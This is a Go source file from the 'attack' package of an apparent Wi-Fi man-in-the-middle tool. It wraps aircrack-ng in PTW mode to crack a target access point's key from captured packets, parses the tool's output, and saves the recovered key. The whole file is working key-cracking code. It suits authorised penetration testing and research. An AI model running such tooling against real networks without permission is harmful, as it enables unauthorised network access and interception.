package attack

import (
	"log/slog"
	"path/filepath"
	"strings"
	"time"

	"github.com/toramanemre/wifimitm/pkg/model"
	"github.com/toramanemre/wifimitm/pkg/proc"
)

const effectPersistKey = "persist_key"

// keyFileName is the file aircrack-ng writes the recovered key into (-l).
const keyFileName = "psk.hex"

// Cracker runs aircrack-ng against the capture's growing packet file until
// the key is recovered. aircrack-ng does not flush stdout while -q is set, so
// most output arrives in a burst around termination; the classifier pass
// before the exit check makes sure that burst is never lost.
type Cracker struct {
	*proc.Supervised

	ap      *model.WirelessAccessPoint
	capPath string
	logger  *slog.Logger

	keySaved bool
}

// NewCracker creates an unstarted key cracker reading capPath.
func NewCracker(capPath string, ap *model.WirelessAccessPoint, grace time.Duration, logger *slog.Logger) *Cracker {
	if logger == nil {
		logger = slog.Default()
	}
	k := &Cracker{ap: ap, capPath: capPath, logger: logger}
	k.Supervised = proc.NewSupervised(proc.Config{
		Kind:           "cracker",
		Stdout:         crackerTable(),
		SilentStderr:   true,
		TerminateGrace: grace,
		Logger:         logger,
	})
	return k
}

func crackerTable() proc.Table {
	return proc.Table{
		FirstMatchOnly: true,
		Rules: []proc.Rule{
			{
				Substr: "Failed. Next try with",
				Apply:  func(_ []string, u *proc.Update) { u.State = proc.StateOK },
			},
			{
				Substr: "KEY FOUND!",
				Apply: func(_ []string, u *proc.Update) {
					u.State = proc.StateOK
					u.AddEffect(effectPersistKey, "")
				},
			},
			{
				// A correct key decrypts 100% of test packets; anything else
				// is a data inconsistency worth surfacing.
				Substr: "Decrypted correctly:",
				Apply: func(m []string, u *proc.Update) {
					if !strings.Contains(m[0], "100%") {
						u.AddAnomaly(&proc.UnexpectedOutputError{
							Kind: "cracker", Stream: "stdout", Line: m[0]})
					}
				},
			},
		},
	}
}

// Start spawns aircrack-ng in PTW mode against the capture file, writing the
// recovered key into the cracker's private directory.
func (k *Cracker) Start() error {
	argv := []string{
		"aircrack-ng",
		"-a", "1",
		"--bssid", k.ap.BSSID,
		"-q",
		"-l", keyFileName,
		k.capPath,
	}
	k.keySaved = false
	return k.Supervised.Start(argv, "")
}

// Update runs one classification pass; on the first KEY FOUND! report the
// generated key file is persisted onto the access point, exactly once.
func (k *Cracker) Update() proc.Update {
	u := k.Supervised.Update()
	for _, e := range u.Effects {
		if e.Name == effectPersistKey {
			k.persistKey(filepath.Join(k.Dir(), keyFileName))
		}
	}
	return u
}

func (k *Cracker) persistKey(src string) {
	if k.keySaved {
		return
	}
	if err := k.ap.SaveKey(src); err != nil {
		k.logger.Warn("saving recovered key failed", "path", src, "error", err)
		return
	}
	k.keySaved = true
	k.logger.Info("key recovered", "ap", k.ap.BSSID, "path", k.ap.PSKPath)
}
